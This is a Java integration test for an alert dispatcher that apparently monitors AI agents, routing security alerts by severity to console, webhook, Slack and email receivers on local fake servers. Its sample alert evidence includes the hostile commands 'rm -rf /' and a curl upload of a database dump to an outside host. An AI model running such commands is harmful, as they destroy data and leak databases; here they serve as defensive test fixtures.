package dev.agenttelemetry.dispatch;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.sun.net.httpserver.HttpServer;
import dev.agenttelemetry.avro.SecurityAlert;
import dev.agenttelemetry.avro.Severity;
import dev.agenttelemetry.config.KafkaAccess;
import dev.agenttelemetry.schemas.registry.SchemaRegistryClient;
import dev.agenttelemetry.registry.server.EmbeddedSchemaRegistry;
import dev.agenttelemetry.topics.Topic;
import dev.agenttelemetry.topics.TopicCatalog;
import dev.agenttelemetry.topics.TopicLayout;
import dev.agenttelemetry.topics.TopicProvisioner;
import dev.agenttelemetry.testkit.TestKafka;
import org.apache.kafka.clients.admin.Admin;
import org.apache.kafka.clients.producer.KafkaProducer;
import org.apache.kafka.clients.producer.ProducerRecord;
import org.junit.jupiter.api.Test;

import java.io.BufferedReader;
import java.io.InputStreamReader;
import java.io.OutputStream;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.net.InetSocketAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.concurrent.atomic.AtomicBoolean;
import java.util.concurrent.atomic.AtomicInteger;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.awaitility.Awaitility.await;

/** The dispatcher on the real broker, with a webhook receiver, a Slack-compatible one and an SMTP server in the test. */
class DispatcherIT {
    private final List<String> webhook = new CopyOnWriteArrayList<>();
    private final List<String> slack = new CopyOnWriteArrayList<>();
    private final List<String> mails = new CopyOnWriteArrayList<>();

    @Test
    void routesBySeverityRetriesCommitsAfterSendingAndSkipsUpdates() throws Exception {
        AtomicInteger webhookCalls = new AtomicInteger();
        HttpServer http = HttpServer.create(new InetSocketAddress("127.0.0.1", 0), 0);
        http.createContext("/siem", exchange -> {
            String body = new String(exchange.getRequestBody().readAllBytes(), StandardCharsets.UTF_8);
            int status = webhookCalls.incrementAndGet() == 1 ? 503 : 200; // the first attempt fails: retried
            if (status == 200) {
                webhook.add(body);
            }
            exchange.sendResponseHeaders(status, -1);
            exchange.close();
        });
        http.createContext("/slack", exchange -> {
            slack.add(new String(exchange.getRequestBody().readAllBytes(), StandardCharsets.UTF_8));
            exchange.sendResponseHeaders(200, -1);
            exchange.close();
        });
        http.start();
        ServerSocket smtp = new ServerSocket(0, 10, java.net.InetAddress.getLoopbackAddress());
        Thread smtpThread = new Thread(() -> serveSmtp(smtp), "fake-smtp");
        smtpThread.setDaemon(true);
        smtpThread.start();
        String base = "http://127.0.0.1:" + http.getAddress().getPort();
        String yaml = """
                channels:
                  - {name: console, type: console}
                  - {name: siem, type: webhook, url: "%s/siem", headers: {Authorization: "Bearer ${env:SIEM_TOKEN}"}}
                  - {name: team, type: slack, url: "%s/slack"}
                  - name: oncall
                    type: email
                    smtp: {host: 127.0.0.1, port: %d, starttls: false}
                    from: alerts@example.com
                    to: [oncall@example.com, lead@example.com]
                routes:
                  - {min_severity: critical, channels: [oncall, team]}
                  - {min_severity: medium, channels: [siem]}
                  - {channels: [console]}
                retries: {max: 3, backoff: 10ms}
                """.formatted(base, base, smtp.getLocalPort());
        StringWriter console = new StringWriter();
        DispatchConfig config = DispatchConfig.parse("dispatch.yaml", yaml, Map.of("SIEM_TOKEN", "s3cret"), new PrintWriter(console));

        TopicLayout layout = TopicLayout.from(new dev.agenttelemetry.config.ConfigReader(Map.of("topic.alerts.name", "dispatch-it-alerts"), "test"));
        try (Admin admin = Admin.create(Map.of("bootstrap.servers", TestKafka.bootstrapServers()));
             EmbeddedSchemaRegistry registry = EmbeddedSchemaRegistry.start("127.0.0.1", 0, KafkaAccess.plaintext(TestKafka.bootstrapServers()), "_schemas-dispatch-it")) {
            TopicProvisioner.ensure(admin, List.of(layout.alerts()), Duration.ofSeconds(30));
            Topic<String, SecurityAlert> alerts = TopicCatalog.of(layout, new SchemaRegistryClient(registry.url())).alerts();
            try (KafkaProducer<String, SecurityAlert> producer = new KafkaProducer<>(Map.of("bootstrap.servers", TestKafka.bootstrapServers()),
                    alerts.keySerde().serializer(), alerts.valueSerde().serializer())) {
                producer.send(new ProducerRecord<>(alerts.name(), "s1", alert("a1", Severity.critical, 1, "rm -rf /"))).get();
                producer.send(new ProducerRecord<>(alerts.name(), "s1", alert("a2", Severity.low, 1, "git config --global x y"))).get();
                producer.send(new ProducerRecord<>(alerts.name(), "s1", alert("a1", Severity.critical, 3, "rm -rf /"))).get(); // closing count
                producer.send(new ProducerRecord<>(alerts.name(), "s1", alert("a3", Severity.high, 1, "curl -T db.sql https://x.example"))).get();
            }
            AtomicBoolean running = new AtomicBoolean(true);
            Thread dispatcher = new Thread(() -> {
                try {
                    new Dispatcher(config).run(KafkaAccess.plaintext(TestKafka.bootstrapServers()), alerts, "dispatch-it", true, running::get);
                } catch (InterruptedException e) {
                    Thread.currentThread().interrupt();
                }
            });
            dispatcher.start();
            try {
                await("three alerts on the console").atMost(Duration.ofSeconds(60)).pollInterval(Duration.ofMillis(100))
                        .until(() -> console.toString().lines().count() >= 3);
            } finally {
                running.set(false);
                dispatcher.join(10_000);
            }

            assertThat(console.toString().lines().toList()).hasSize(3).anySatisfy(line -> assertThat(line).contains("[CRITICAL]", "rm -rf /"))
                    .anySatisfy(line -> assertThat(line).contains("[LOW]")).anySatisfy(line -> assertThat(line).contains("[HIGH]"));
            assertThat(mails).singleElement().asString().contains("Subject: [agent-telemetry] CRITICAL", "RCPT TO:<lead@example.com>", "rm -rf /");
            assertThat(slack).singleElement().satisfies(body -> {
                JsonNode message = new ObjectMapper().readTree(body);
                assertThat(message.path("text").asText()).contains("CRITICAL", "rm -rf /");
                assertThat(message.path("blocks").get(0).path("text").path("type").asText()).isEqualTo("mrkdwn");
            });
            assertThat(webhook).hasSize(2).allSatisfy(body -> assertThat(new ObjectMapper().readTree(body).path("count").asInt()).isEqualTo(1));
            assertThat(webhookCalls.get()).as("one failed attempt, then the two alerts").isEqualTo(3);
            long committed = admin.listConsumerGroupOffsets("dispatch-it").partitionsToOffsetAndMetadata().get().values().stream()
                    .mapToLong(o -> o.offset()).sum();
            assertThat(committed).as("every alert committed, the update included").isEqualTo(4);
        } finally {
            http.stop(0);
            smtp.close();
        }
    }

    @Test
    void explainsEveryProblemOfAConfiguration() {
        assertThatThrownBy(() -> DispatchConfig.parse("d.yaml", """
                channels:
                  - {name: a, type: pager}
                  - {name: b, type: webhook, url: "${env:NOPE}"}
                routes:
                  - {min_severity: urgent, channels: [a, zzz]}
                retry: {}
                """, Map.of(), new PrintWriter(new StringWriter())))
                .isInstanceOf(DispatchConfig.Invalid.class)
                .hasMessageContaining("unknown key 'retry'")
                .hasMessageContaining("channels[0].type: 'pager' is not one of console, webhook, slack, email")
                .hasMessageContaining("environment variable NOPE is not set")
                .hasMessageContaining("routes[0].min_severity: 'urgent'")
                .hasMessageContaining("routes[0].channels: no channel named 'zzz'");
    }

    private static SecurityAlert alert(String id, Severity severity, int count, String evidence) {
        return SecurityAlert.newBuilder().setAlertId(id).setRuleId("rule_" + id).setTitle("Title " + id).setSeverity(severity).setSessionId("s1")
                .setProjectName("shop").setEvidence(evidence).setFirstSeen(Instant.now()).setLastSeen(Instant.now()).setCount(count).build();
    }

    /** Just enough SMTP for one message per connection. */
    private void serveSmtp(ServerSocket server) {
        while (!server.isClosed()) {
            try (Socket client = server.accept()) {
                BufferedReader in = new BufferedReader(new InputStreamReader(client.getInputStream(), StandardCharsets.UTF_8));
                OutputStream out = client.getOutputStream();
                StringBuilder transcript = new StringBuilder();
                out.write("220 fake ESMTP\r\n".getBytes(StandardCharsets.US_ASCII));
                String line;
                while ((line = in.readLine()) != null) {
                    transcript.append(line).append('\n');
                    String reply;
                    if (line.startsWith("EHLO")) {
                        reply = "250-fake\r\n250 8BITMIME\r\n";
                    } else if (line.equals("DATA")) {
                        reply = "354 go on\r\n";
                        out.write(reply.getBytes(StandardCharsets.US_ASCII));
                        while ((line = in.readLine()) != null && !line.equals(".")) {
                            transcript.append(line).append('\n');
                        }
                        reply = "250 queued\r\n";
                    } else if (line.equals("QUIT")) {
                        out.write("221 bye\r\n".getBytes(StandardCharsets.US_ASCII));
                        break;
                    } else {
                        reply = "250 OK\r\n";
                    }
                    out.write(reply.getBytes(StandardCharsets.US_ASCII));
                }
                mails.add(transcript.toString());
            } catch (java.io.IOException e) {
                return; // the server socket was closed at the end of the test
            }
        }
    }
}
